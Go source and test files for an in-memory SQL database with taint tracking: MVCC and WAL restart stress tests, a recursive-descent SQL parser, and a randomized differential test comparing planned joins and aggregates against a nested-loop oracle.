		// intended tool for guarding such invariants at commit time.)
		db := open(t)
		tx1, tx2 := db.Begin(), db.Begin()
		if s := readN(t, tx1, "x") + readN(t, tx1, "y"); s < 25 {
			t.Fatalf("setup: sum %d", s)
		}
		if s := readN(t, tx2, "x") + readN(t, tx2, "y"); s < 25 {
			t.Fatalf("setup: sum %d", s)
		}
		tx1.MustExec("UPDATE a SET n = 0 WHERE k = 'x'")
		tx2.MustExec("UPDATE a SET n = 0 WHERE k = 'y'")
		if err := tx1.Commit(); err != nil {
			t.Fatal(err)
		}
		if err := tx2.Commit(); err != nil {
			t.Fatalf("write skew is documented as allowed; commit failed: %v", err)
		}
		if s := readN(t, db, "x") + readN(t, db, "y"); s != 0 {
			t.Fatalf("sum = %d; the pinned write-skew outcome changed", s)
		}
	})
}

// TestMVCCStressRestartEquality races every moving part at once under
// -race: snapshot readers holding transactions open, direct writers,
// conflicting read-modify-write transactions, index DDL churn, and
// mid-flight Compact — against a WAL-backed database. When the dust
// settles, a restart must reproduce the exact surviving state
// (dumpEngine equality, ids included, plus canonical index contents).
func TestMVCCStressRestartEquality(t *testing.T) {
	path := filepath.Join(t.TempDir(), "mvcc-stress.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE m (id INT, val TEXT)")
	db.MustExec("CREATE INDEX ON m (id)")
	db.SetWALGroupCommit(8)
	const nrows = 64
	for i := 0; i < nrows; i++ {
		if _, err := db.QueryRaw("INSERT INTO m (id, val) VALUES (?, ?)", i,
			core.NewStringPolicy(fmt.Sprintf("seed-%d", i), &sanitize.UntrustedData{Source: "stress"})); err != nil {
			t.Fatal(err)
		}
	}

	const iters = 60
	var wg sync.WaitGroup
	for r := 0; r < 3; r++ { // snapshot readers: hold a tx open across churn
		wg.Add(1)
		go func(r int) {
			defer wg.Done()
			for i := 0; i < iters/4; i++ {
				tx := db.Begin()
				a := captureSorted(t, tx, "SELECT id, val FROM m ORDER BY id")
				b := captureSorted(t, tx, "SELECT id, val FROM m ORDER BY id")
				if !reflect.DeepEqual(a, b) {
					t.Errorf("reader %d: snapshot moved between reads", r)
					tx.Rollback()
					return
				}
				if err := tx.Rollback(); err != nil {
					t.Errorf("reader %d: %v", r, err)
					return
				}
			}
		}(r)
	}
	for w := 0; w < 2; w++ { // direct writers: update/delete/reinsert
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				id := (w*iters + i*7) % nrows
				if _, err := db.QueryRaw("UPDATE m SET val = ? WHERE id = ?", fmt.Sprintf("w%d-%d", w, i), id); err != nil {
					t.Errorf("writer %d: %v", w, err)
					return
				}
				if i%5 == 0 {
					if _, err := db.QueryRaw("DELETE FROM m WHERE id = ?", id); err != nil {
						t.Errorf("writer %d delete: %v", w, err)
						return
					}
					if _, err := db.QueryRaw("INSERT INTO m (id, val) VALUES (?, ?)", id,
						core.NewStringPolicy("reborn", &sanitize.UntrustedData{Source: "stress"})); err != nil {
						t.Errorf("writer %d reinsert: %v", w, err)
						return
					}
				}
			}
		}(w)
	}
	wg.Add(1)
	go func() { // conflicting transactions on a hot row
		defer wg.Done()
		for i := 0; i < iters; i++ {
			tx := db.Begin()
			if _, err := tx.QueryRaw("UPDATE m SET val = ? WHERE id = 0", fmt.Sprintf("hot-%d", i)); err != nil {
				t.Errorf("hot tx: %v", err)
				return
			}
			if err := tx.Commit(); err != nil && !errors.Is(err, ErrTxConflict) {
				t.Errorf("hot tx commit: %v", err)
				return
			}
		}
	}()
	wg.Add(1)
	go func() { // index DDL churn
		defer wg.Done()
		for i := 0; i < 6; i++ {
			if _, err := db.QueryRaw("CREATE INDEX ON m (val)"); err != nil {
				t.Errorf("create index: %v", err)
				return
			}
			if _, err := db.QueryRaw("DROP INDEX ON m (val)"); err != nil {
				t.Errorf("drop index: %v", err)
				return
			}
		}
	}()
	wg.Add(1)
	go func() { // mid-flight compaction
		defer wg.Done()
		for i := 0; i < 5; i++ {
			if err := db.Compact(); err != nil {
				t.Errorf("compact: %v", err)
				return
			}
		}
	}()
	wg.Wait()

	live := dumpEngine(db.Engine())
	liveIdx := indexStructures(db.Engine())
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
		t.Error("recovered state diverges from live state after MVCC stress")
	}
	if got := indexStructures(db2.Engine()); !reflect.DeepEqual(got, liveIdx) {
		t.Error("recovered index contents diverge after MVCC stress")
	}
}

// TestTxBeginIsSnapshotReference pins the O(1) Begin: the speculative
// engine shares the base's table structures by pointer (no row copy,
// no Engine.Clone) until a write materializes a private copy.
func TestTxBeginIsSnapshotReference(t *testing.T) {
	db := Open(core.NewRuntime())
	db.MustExec("CREATE TABLE big (id INT, val TEXT)")
	db.MustExec("CREATE TABLE other (id INT)")
	db.MustExec("INSERT INTO big (id, val) VALUES (1, 'a'), (2, 'b')")

	tx := db.Begin()
	defer tx.Rollback()
	base := db.Engine()
	spec := tx.spec
	if spec.tables["big"] != base.tables["big"] || spec.tables["other"] != base.tables["other"] {
		t.Fatal("Begin copied table structures; it should capture a snapshot reference")
	}
	if spec.txBase != base || len(spec.owned) != 0 {
		t.Fatal("speculative engine not wired to its base")
	}
	// First write materializes only the written table.
	tx.MustExec("UPDATE big SET val = 'c' WHERE id = 1")
	if spec.tables["big"] == base.tables["big"] {
		t.Fatal("write did not materialize a private copy")
	}
	if spec.tables["other"] != base.tables["other"] {
		t.Fatal("write materialized an untouched table")
	}
	// The base is untouched and the private copy kept stable row ids.
	if got := captureSorted(t, db, "SELECT val FROM big ORDER BY id"); got[0].cells[0] != "a" {
		t.Fatalf("base leaked the speculative write: %+v", got)
	}
	if spec.tables["big"].entries[0].id != base.tables["big"].entries[0].id {
		t.Fatal("materialized copy renumbered row ids")
	}
}
