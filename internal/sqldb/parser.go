package sqldb

import (
	"fmt"
	"strconv"
	"strings"
	"sync/atomic"

	"resin/internal/core"
)

// parseCalls counts ParseTokens invocations. The plan cache's contract is
// that a cache hit never parses; tests and benchmarks observe the counter
// through ParseCount to pin that down.
var parseCalls atomic.Uint64

// ParseCount returns the number of ParseTokens invocations so far in this
// process (including those made through Parse and ParseAutoSanitized).
func ParseCount() uint64 { return parseCalls.Load() }

// ParseError is a syntax error with the offending token.
type ParseError struct {
	Offset int
	Msg    string
}

func (e *ParseError) Error() string {
	return fmt.Sprintf("sqldb: parse error at offset %d: %s", e.Offset, e.Msg)
}

// Parse lexes and parses a single SQL statement from a tracked query.
// A trailing semicolon is allowed; anything after it is rejected (the
// dialect does not support stacked queries, like most real PHP database
// APIs — injection attacks here work by reshaping a single statement).
func Parse(q core.String) (Statement, error) {
	toks, err := Lex(q)
	if err != nil {
		return nil, err
	}
	return ParseTokens(toks)
}

// ParseTokens parses an already-lexed token stream; the auto-sanitizing
// filter mode uses it with the taint-aware tokenizer.
func ParseTokens(toks []Token) (Statement, error) {
	parseCalls.Add(1)
	p := &parser{toks: toks}
	stmt, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	if p.peek().Type == TokSemi {
		p.next()
	}
	if p.peek().Type != TokEOF {
		return nil, p.errf("unexpected %s %q after statement", p.peek().Type, p.peek().Text)
	}
	return stmt, nil
}

type parser struct {
	toks []Token
	pos  int
}

func (p *parser) peek() Token { return p.toks[p.pos] }

func (p *parser) next() Token {
	t := p.toks[p.pos]
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *parser) errf(format string, args ...any) error {
	return &ParseError{Offset: p.peek().Start, Msg: fmt.Sprintf(format, args...)}
}

// expectKeyword consumes the given keyword or fails.
func (p *parser) expectKeyword(kw string) error {
	t := p.peek()
	if t.Type != TokKeyword || t.Keyword() != kw {
		return p.errf("expected %s, got %q", kw, t.Text)
	}
	p.next()
	return nil
}

// acceptKeyword consumes the keyword if present.
func (p *parser) acceptKeyword(kw string) bool {
	t := p.peek()
	if t.Type == TokKeyword && t.Keyword() == kw {
		p.next()
		return true
	}
	return false
}

// expectIdent consumes an identifier (or non-reserved keyword used as a
// name) and returns its text.
func (p *parser) expectIdent() (string, error) {
	t := p.peek()
	if t.Type != TokIdent {
		return "", p.errf("expected identifier, got %s %q", t.Type, t.Text)
	}
	p.next()
	return t.Text, nil
}

func (p *parser) expect(tt TokenType) (Token, error) {
	t := p.peek()
	if t.Type != tt {
		return Token{}, p.errf("expected %s, got %s %q", tt, t.Type, t.Text)
	}
	return p.next(), nil
}

func (p *parser) parseStatement() (Statement, error) {
	t := p.peek()
	if t.Type != TokKeyword {
		return nil, p.errf("expected statement keyword, got %q", t.Text)
	}
	switch t.Keyword() {
	case "SELECT":
		return p.parseSelect()
	case "INSERT":
		return p.parseInsert()
	case "UPDATE":
		return p.parseUpdate()
	case "DELETE":
		return p.parseDelete()
	case "CREATE":
		return p.parseCreate()
	case "DROP":
		return p.parseDrop()
	default:
		return nil, p.errf("unsupported statement %q", t.Text)
	}
}

func (p *parser) parseSelect() (Statement, error) {
	p.next() // SELECT
	sel := &Select{Limit: -1}
	if p.peek().Type == TokStar {
		p.next()
		sel.Star = true
	} else {
		for {
			it, err := p.parseSelectItem()
			if err != nil {
				return nil, err
			}
			sel.Items = append(sel.Items, it)
			if p.peek().Type != TokComma {
				break
			}
			p.next()
		}
	}
	if err := p.expectKeyword("FROM"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	sel.Table = table
	joinType := ""
	switch {
	case p.acceptKeyword("INNER"):
		if err := p.expectKeyword("JOIN"); err != nil {
			return nil, err
		}
		joinType = "INNER"
	case p.acceptKeyword("LEFT"):
		if err := p.expectKeyword("JOIN"); err != nil {
			return nil, err
		}
		joinType = "LEFT"
	case p.acceptKeyword("JOIN"): // bare JOIN is INNER
		joinType = "INNER"
	}
	if joinType != "" {
		jt, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		if err := p.expectKeyword("ON"); err != nil {
			return nil, err
		}
		l, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		if t := p.peek(); t.Type != TokOp || t.Text != "=" {
			return nil, p.errf("expected = in ON clause, got %q", t.Text)
		}
		p.next()
		r, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		sel.Join = &JoinClause{Type: joinType, Table: jt, L: l, R: r}
	}
	if p.acceptKeyword("WHERE") {
		w, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		sel.Where = w
	}
	if p.acceptKeyword("GROUP") {
		if err := p.expectKeyword("BY"); err != nil {
			return nil, err
		}
		for {
			col, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			sel.GroupBy = append(sel.GroupBy, col)
			if p.peek().Type != TokComma {
				break
			}
			p.next()
		}
	}
	if p.acceptKeyword("ORDER") {
		if err := p.expectKeyword("BY"); err != nil {
			return nil, err
		}
		col, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		sel.OrderBy = col
		if p.acceptKeyword("DESC") {
			sel.Desc = true
		} else {
			p.acceptKeyword("ASC")
		}
	}
	if p.acceptKeyword("LIMIT") {
		switch t := p.peek(); t.Type {
		case TokPlaceholder:
			// `LIMIT ?` / `LIMIT :name`: a binding slot the
			// prepared-statement layer resolves per execution.
			p.next()
			sel.LimitExpr = &Placeholder{Ord: t.ParamIdx}
		case TokParam:
			p.next()
			sel.LimitExpr = &Param{Idx: t.ParamIdx}
		default:
			t, err := p.expect(TokNumber)
			if err != nil {
				return nil, err
			}
			n, err := strconv.Atoi(t.Text)
			if err != nil || n < 0 {
				return nil, p.errf("bad LIMIT %q", t.Text)
			}
			sel.Limit = n
		}
	}
	return sel, nil
}

// parseSelectItem parses one projection item: a column reference, or an
// aggregate call AGG(col) / COUNT(*). Aggregate names are contextual
// identifiers (not reserved), recognized only when directly followed by
// an opening parenthesis — a column named "count" stays selectable.
func (p *parser) parseSelectItem() (SelectItem, error) {
	if t := p.peek(); t.Type == TokIdent && p.toks[p.pos+1].Type == TokLParen {
		agg := strings.ToUpper(t.Text)
		switch agg {
		case "COUNT", "SUM", "MIN", "MAX", "PUNION":
			p.next() // aggregate name
			p.next() // (
			if agg == "COUNT" && p.peek().Type == TokStar {
				p.next()
				if _, err := p.expect(TokRParen); err != nil {
					return SelectItem{}, err
				}
				return SelectItem{Agg: agg, Star: true}, nil
			}
			col, err := p.expectIdent()
			if err != nil {
				return SelectItem{}, err
			}
			if _, err := p.expect(TokRParen); err != nil {
				return SelectItem{}, err
			}
			return SelectItem{Agg: agg, Col: col}, nil
		}
	}
	col, err := p.expectIdent()
	if err != nil {
		return SelectItem{}, err
	}
	return SelectItem{Col: col}, nil
}

func (p *parser) parseInsert() (Statement, error) {
	p.next() // INSERT
	if err := p.expectKeyword("INTO"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	ins := &Insert{Table: table}
	if _, err := p.expect(TokLParen); err != nil {
		return nil, err
	}
	for {
		col, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		ins.Columns = append(ins.Columns, col)
		if p.peek().Type != TokComma {
			break
		}
		p.next()
	}
	if _, err := p.expect(TokRParen); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("VALUES"); err != nil {
		return nil, err
	}
	for {
		if _, err := p.expect(TokLParen); err != nil {
			return nil, err
		}
		var row []Expr
		for {
			e, err := p.parsePrimary()
			if err != nil {
				return nil, err
			}
			row = append(row, e)
			if p.peek().Type != TokComma {
				break
			}
			p.next()
		}
		if _, err := p.expect(TokRParen); err != nil {
			return nil, err
		}
		if len(row) != len(ins.Columns) {
			return nil, p.errf("INSERT row has %d values for %d columns", len(row), len(ins.Columns))
		}
		ins.Rows = append(ins.Rows, row)
		if p.peek().Type != TokComma {
			break
		}
		p.next()
	}
	return ins, nil
}

func (p *parser) parseUpdate() (Statement, error) {
	p.next() // UPDATE
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	up := &Update{Table: table}
	if err := p.expectKeyword("SET"); err != nil {
		return nil, err
	}
	for {
		col, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		t := p.peek()
		if t.Type != TokOp || t.Text != "=" {
			return nil, p.errf("expected = in SET, got %q", t.Text)
		}
		p.next()
		val, err := p.parsePrimary()
		if err != nil {
			return nil, err
		}
		up.Set = append(up.Set, Assignment{Column: col, Value: val})
		if p.peek().Type != TokComma {
			break
		}
		p.next()
	}
	if p.acceptKeyword("WHERE") {
		w, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		up.Where = w
	}
	return up, nil
}

func (p *parser) parseDelete() (Statement, error) {
	p.next() // DELETE
	if err := p.expectKeyword("FROM"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	del := &Delete{Table: table}
	if p.acceptKeyword("WHERE") {
		w, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		del.Where = w
	}
	return del, nil
}

func (p *parser) parseCreate() (Statement, error) {
	p.next() // CREATE
	if p.acceptKeyword("INDEX") {
		table, col, err := p.parseIndexTarget()
		if err != nil {
			return nil, err
		}
		return &CreateIndex{Table: table, Column: col}, nil
	}
	if err := p.expectKeyword("TABLE"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	ct := &CreateTable{Table: table}
	if _, err := p.expect(TokLParen); err != nil {
		return nil, err
	}
	for {
		col, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		t := p.peek()
		var typ ColType
		if t.Type == TokKeyword {
			switch t.Keyword() {
			case "TEXT":
				typ = ColText
			case "INT", "INTEGER":
				typ = ColInt
			default:
				return nil, p.errf("bad column type %q", t.Text)
			}
			p.next()
		} else {
			return nil, p.errf("expected column type, got %q", t.Text)
		}
		ct.Cols = append(ct.Cols, ColumnDef{Name: col, Type: typ})
		if p.peek().Type != TokComma {
			break
		}
		p.next()
	}
	if _, err := p.expect(TokRParen); err != nil {
		return nil, err
	}
	return ct, nil
}

func (p *parser) parseDrop() (Statement, error) {
	p.next() // DROP
	if p.acceptKeyword("INDEX") {
		table, col, err := p.parseIndexTarget()
		if err != nil {
			return nil, err
		}
		return &DropIndex{Table: table, Column: col}, nil
	}
	if err := p.expectKeyword("TABLE"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	return &DropTable{Table: table}, nil
}

// parseIndexTarget parses the "ON t (col)" tail shared by CREATE INDEX
// and DROP INDEX.
func (p *parser) parseIndexTarget() (table, col string, err error) {
	if err := p.expectKeyword("ON"); err != nil {
		return "", "", err
	}
	table, err = p.expectIdent()
	if err != nil {
		return "", "", err
	}
	if _, err := p.expect(TokLParen); err != nil {
		return "", "", err
	}
	col, err = p.expectIdent()
	if err != nil {
		return "", "", err
	}
	if _, err := p.expect(TokRParen); err != nil {
		return "", "", err
	}
	return table, col, nil
}

// Expression grammar: or-expr := and-expr (OR and-expr)* ;
// and-expr := not-expr (AND not-expr)* ; not-expr := [NOT] cmp ;
// cmp := primary [(= | != | <> | < | <= | > | >= | LIKE) primary].
func (p *parser) parseExpr() (Expr, error) {
	l, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.acceptKeyword("OR") {
		r, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		l = &Binary{Op: "OR", L: l, R: r}
	}
	return l, nil
}

func (p *parser) parseAnd() (Expr, error) {
	l, err := p.parseNot()
	if err != nil {
		return nil, err
	}
	for p.acceptKeyword("AND") {
		r, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		l = &Binary{Op: "AND", L: l, R: r}
	}
	return l, nil
}

func (p *parser) parseNot() (Expr, error) {
	if p.acceptKeyword("NOT") {
		x, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		return &Unary{Op: "NOT", X: x}, nil
	}
	return p.parseComparison()
}

func (p *parser) parseComparison() (Expr, error) {
	l, err := p.parseOperand()
	if err != nil {
		return nil, err
	}
	t := p.peek()
	if t.Type == TokOp {
		op := t.Text
		if op == "<>" {
			op = "!="
		}
		p.next()
		r, err := p.parseOperand()
		if err != nil {
			return nil, err
		}
		return &Binary{Op: op, L: l, R: r}, nil
	}
	if t.Type == TokKeyword && t.Keyword() == "LIKE" {
		p.next()
		r, err := p.parseOperand()
		if err != nil {
			return nil, err
		}
		return &Binary{Op: "LIKE", L: l, R: r}, nil
	}
	return l, nil
}

// parseOperand parses a parenthesized expression, column ref, or literal.
func (p *parser) parseOperand() (Expr, error) {
	if p.peek().Type == TokLParen {
		p.next()
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(TokRParen); err != nil {
			return nil, err
		}
		return e, nil
	}
	return p.parsePrimary()
}

// parsePrimary parses a literal or column reference.
func (p *parser) parsePrimary() (Expr, error) {
	t := p.peek()
	switch t.Type {
	case TokString:
		p.next()
		return &StringLit{Val: t.Value}, nil
	case TokNumber:
		p.next()
		v, err := strconv.ParseInt(t.Text, 10, 64)
		if err != nil {
			return nil, p.errf("bad number %q", t.Text)
		}
		return &IntLit{Val: v, Src: t.Value}, nil
	case TokIdent:
		p.next()
		return &ColumnRef{Name: t.Text}, nil
	case TokParam:
		p.next()
		return &Param{Idx: t.ParamIdx}, nil
	case TokPlaceholder:
		p.next()
		return &Placeholder{Ord: t.ParamIdx}, nil
	case TokKeyword:
		if t.Keyword() == "NULL" {
			p.next()
			return &NullLit{}, nil
		}
		return nil, p.errf("unexpected keyword %q in expression", t.Text)
	default:
		return nil, p.errf("unexpected %s %q in expression", t.Type, t.Text)
	}
}
