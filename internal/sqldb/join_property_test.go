package sqldb

import (
	"errors"
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"sync"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// The reference-executor differential harness for joins and aggregates:
// every generated query runs twice against the SAME database — once
// through the planner (hash join, build-side cost hook, index-assisted
// LIMIT) and once with ForceLoop+ForceScan, the nested-loop-over-scans
// reference executor whose semantics are obvious by inspection. The two
// executions must fail with byte-identical errors or succeed with
// identical rows, identical order, and identical decoded policy sets —
// including the PUNION-carried unions on aggregate outputs. This is the
// executable form of docs/SQL.md §10's propagation rules.
// FuzzJoinAggregate reuses diffPlanned over adversarial query text.

// diffPlanned executes one SELECT through the planned path and through
// the nested-loop/scan oracle, requiring matching error behavior and,
// on success, results identical down to serialized policy annotations.
func diffPlanned(t testing.TB, db *DB, q string) {
	t.Helper()
	stmt, err := Parse(core.NewString(q))
	if err != nil {
		t.Fatalf("%s: parse: %v", q, err)
	}
	sel, ok := stmt.(*Select)
	if !ok {
		t.Fatalf("%s: not a SELECT", q)
	}
	e := db.Engine()
	planned, aerr := executeWithPolicies(e, sel)
	forced := *sel
	forced.ForceLoop, forced.ForceScan = true, true
	oracle, berr := executeWithPolicies(e, &forced)
	if (aerr == nil) != (berr == nil) {
		t.Fatalf("%s: planned err=%v, oracle err=%v", q, aerr, berr)
	}
	if aerr != nil {
		if aerr.Error() != berr.Error() {
			t.Fatalf("%s: error text differs:\n  planned %v\n  oracle  %v", q, aerr, berr)
		}
		return
	}
	requireSameResults(t, q, planned, oracle)
}

// joinWorkload generates random two-table queries over the fixed
// papers/reviews schema. Both tables carry a column named score, so the
// generator can also exercise the ambiguous-unqualified-reference error
// path; a small fraction of ON clauses and projections are deliberately
// invalid because the differential contract covers error text too.
type joinWorkload struct {
	t   testing.TB
	db  *DB
	rng *rand.Rand
}

func (w *joinWorkload) litFor(col string) string {
	r := w.rng
	if r.Intn(10) == 0 {
		return "NULL"
	}
	base := col[strings.IndexByte(col, '.')+1:]
	switch base {
	case "id", "paper", "score":
		return fmt.Sprintf("%d", r.Intn(30)-4)
	default:
		words := []string{"ant", "bee", "cat", "dog", "", "zz", "ant%", "a_t"}
		return "'" + words[r.Intn(len(words))] + "'"
	}
}

func (w *joinWorkload) randJoinPredicate(depth int, cols []string) string {
	r := w.rng
	if depth <= 0 || r.Intn(3) > 0 {
		col := cols[r.Intn(len(cols))]
		op := []string{"=", "!=", "<", "<=", ">", ">=", "LIKE"}[r.Intn(7)]
		lit := w.litFor(col)
		if r.Intn(8) == 0 { // reversed operand order
			return fmt.Sprintf("%s %s %s", lit, op, col)
		}
		return fmt.Sprintf("%s %s %s", col, op, lit)
	}
	l, rr := w.randJoinPredicate(depth-1, cols), w.randJoinPredicate(depth-1, cols)
	switch r.Intn(4) {
	case 0:
		return fmt.Sprintf("(%s) OR (%s)", l, rr)
	case 1:
		return fmt.Sprintf("NOT (%s)", l)
	default:
		return fmt.Sprintf("(%s) AND (%s)", l, rr)
	}
}

func (w *joinWorkload) randAgg(col string) string {
	r := w.rng
	if r.Intn(5) == 0 {
		return "COUNT(*)"
	}
	agg := []string{"COUNT", "SUM", "MIN", "MAX"}[r.Intn(4)]
	return fmt.Sprintf("%s(%s)", agg, col)
}

// randJoinSelect mixes INNER/LEFT joins, GROUP BY with every aggregate,
// qualified and unqualified references, WHERE, ORDER BY, and LIMIT.
func (w *joinWorkload) randJoinSelect() string {
	r := w.rng
	join := r.Intn(4) > 0
	cols := []string{"papers.id", "papers.title", "papers.score", "id", "title"}
	if join {
		cols = append(cols, "reviews.paper", "reviews.reviewer", "reviews.score", "paper", "reviewer")
		if r.Intn(12) == 0 {
			cols = append(cols, "score") // ambiguous in a join: error arm
		}
	} else {
		cols = append(cols, "score")
	}
	randCol := func() string { return cols[r.Intn(len(cols))] }

	from := "papers"
	if join {
		jt := []string{"INNER JOIN", "LEFT JOIN", "JOIN"}[r.Intn(3)]
		on := []string{
			"papers.id = reviews.paper",
			"reviews.paper = papers.id",
			"id = paper",
			"papers.score = reviews.score",
		}[r.Intn(4)]
		if r.Intn(16) == 0 { // invalid ON shapes: same-side, unknown, ambiguous
			on = []string{"papers.id = papers.score", "papers.id = banana", "score = score"}[r.Intn(3)]
		}
		from += " " + jt + " reviews ON " + on
	}

	grouped := r.Intn(3) == 0
	var items, groupBy []string
	if grouped {
		want := 1 + r.Intn(2)
		seen := map[string]bool{}
		for len(groupBy) < want {
			c := randCol()
			if !seen[c] {
				seen[c] = true
				groupBy = append(groupBy, c)
			}
		}
		for _, g := range groupBy {
			if r.Intn(4) > 0 {
				items = append(items, g)
			}
		}
		for i, n := 0, 1+r.Intn(3); i < n; i++ {
			items = append(items, w.randAgg(randCol()))
		}
		if r.Intn(12) == 0 { // bare column outside GROUP BY: error arm
			items = append(items, randCol())
		}
	} else {
		switch r.Intn(5) {
		case 0:
			items = []string{"*"}
		case 1: // whole-input aggregates, no GROUP BY
			for i, n := 0, 1+r.Intn(3); i < n; i++ {
				items = append(items, w.randAgg(randCol()))
			}
		default:
			for i, n := 0, 1+r.Intn(4); i < n; i++ {
				items = append(items, randCol())
			}
		}
	}

	q := "SELECT " + strings.Join(items, ", ") + " FROM " + from
	if r.Intn(3) == 0 {
		q += " WHERE " + w.randJoinPredicate(2, cols)
	}
	if r.Intn(3) > 0 {
		ob := randCol()
		if len(groupBy) > 0 && r.Intn(6) > 0 {
			ob = groupBy[r.Intn(len(groupBy))]
		}
		q += " ORDER BY " + ob
		if r.Intn(2) == 0 {
			q += " DESC"
		}
	}
	if r.Intn(4) == 0 {
		q += fmt.Sprintf(" LIMIT %d", r.Intn(10))
	}
	return q
}

// TestJoinAggregateDifferentialProperty is the seeded random workload:
// tainted INSERT/UPDATE/DELETE churn on both tables (reviews routinely
// reference missing papers, so LEFT JOIN padding and empty groups occur
// naturally), index churn, and a stream of random join/aggregate
// SELECTs diffed against the nested-loop/scan oracle.
func TestJoinAggregateDifferentialProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(20090211)) // seeded: reruns are identical
	db := Open(core.NewRuntime())
	w := &joinWorkload{t: t, db: db, rng: rng}

	db.MustExec("CREATE TABLE papers (id INT, title TEXT, score INT)")
	db.MustExec("CREATE TABLE reviews (paper INT, reviewer TEXT, score INT)")
	db.MustExec("CREATE INDEX ON papers (id)")
	db.MustExec("CREATE INDEX ON reviews (paper)")

	taint := func(s string) core.String {
		return core.NewStringPolicy(s, &sanitize.UntrustedData{Source: "join-diff"})
	}
	words := []string{"ant", "antler", "bee", "beetle", "cat", "dog", "zz", ""}
	randWord := func() string { return words[rng.Intn(len(words))] }
	exec := func(q string, args ...any) {
		t.Helper()
		if _, err := db.QueryRaw(q, args...); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}

	nextPaper := 0
	for op := 0; op < 400; op++ {
		switch rng.Intn(12) {
		case 0, 1: // INSERT paper: tainted title, sometimes NULL id/score
			var id, score any = nextPaper, rng.Intn(20) - 3
			if rng.Intn(10) == 0 {
				id = nil
			}
			if rng.Intn(6) == 0 {
				score = nil
			}
			exec("INSERT INTO papers (id, title, score) VALUES (?, ?, ?)", id, taint(randWord()), score)
			nextPaper++
		case 2, 3, 4: // INSERT review: tainted reviewer, sometimes tainted score
			var paper, score any = rng.Intn(nextPaper + 3), rng.Intn(20) - 3
			if rng.Intn(10) == 0 {
				paper = nil
			}
			if rng.Intn(4) == 0 {
				score = core.NewInt(int64(rng.Intn(20) - 3)).WithPolicy(&sanitize.UntrustedData{Source: "join-diff"})
			}
			exec("INSERT INTO reviews (paper, reviewer, score) VALUES (?, ?, ?)", paper, taint(randWord()), score)
		case 5: // UPDATE moves join keys on one side
			if rng.Intn(2) == 0 {
				exec("UPDATE papers SET id = ?, title = ? WHERE score = ?",
					rng.Intn(nextPaper+3), taint(randWord()), rng.Intn(20)-3)
			} else {
				exec("UPDATE reviews SET paper = ? WHERE reviewer = ?",
					rng.Intn(nextPaper+3), randWord())
			}
		case 6: // DELETE
			if rng.Intn(2) == 0 {
				exec("DELETE FROM papers WHERE score < ?", rng.Intn(8)-4)
			} else {
				exec("DELETE FROM reviews WHERE paper = ?", rng.Intn(nextPaper+3))
			}
		case 7: // index churn on the join columns
			tbl, col := "papers", "id"
			if rng.Intn(2) == 0 {
				tbl, col = "reviews", "paper"
			}
			if _, err := db.QueryRaw(fmt.Sprintf("DROP INDEX ON %s (%s)", tbl, col)); err != nil {
				db.MustExec(fmt.Sprintf("CREATE INDEX ON %s (%s)", tbl, col))
			}
		default: // a batch of random join/aggregate SELECTs
			for i := 0; i < 3; i++ {
				diffPlanned(t, db, w.randJoinSelect())
			}
		}
	}

	// A fixed battery over the final state: every join type, every
	// aggregate, the policy-union carriers, and the error shapes the
	// executor special-cases, each diffed against the oracle.
	for _, q := range []string{
		"SELECT * FROM papers INNER JOIN reviews ON papers.id = reviews.paper",
		"SELECT * FROM papers LEFT JOIN reviews ON papers.id = reviews.paper ORDER BY papers.id",
		"SELECT papers.title, reviews.reviewer FROM papers JOIN reviews ON id = paper ORDER BY reviews.reviewer DESC LIMIT 5",
		"SELECT title, reviewer FROM papers LEFT JOIN reviews ON reviews.paper = papers.id WHERE papers.score > 2 ORDER BY title",
		"SELECT papers.id, COUNT(*), COUNT(reviews.score), SUM(reviews.score), MIN(reviews.reviewer), MAX(reviews.reviewer) FROM papers LEFT JOIN reviews ON papers.id = reviews.paper GROUP BY papers.id ORDER BY papers.id",
		"SELECT title, COUNT(*) FROM papers JOIN reviews ON id = paper GROUP BY title ORDER BY title DESC",
		"SELECT COUNT(*), SUM(score) FROM papers",
		"SELECT MIN(title), MAX(title) FROM papers WHERE score > 100",
		"SELECT reviewer, SUM(score) FROM reviews GROUP BY reviewer ORDER BY reviewer LIMIT 3",
		"SELECT paper, COUNT(paper) FROM reviews GROUP BY paper ORDER BY paper DESC",
		"SELECT papers.score, reviews.score FROM papers JOIN reviews ON papers.score = reviews.score ORDER BY papers.id LIMIT 7",
		// error shapes: both paths must produce identical text
		"SELECT score FROM papers JOIN reviews ON papers.id = reviews.paper",
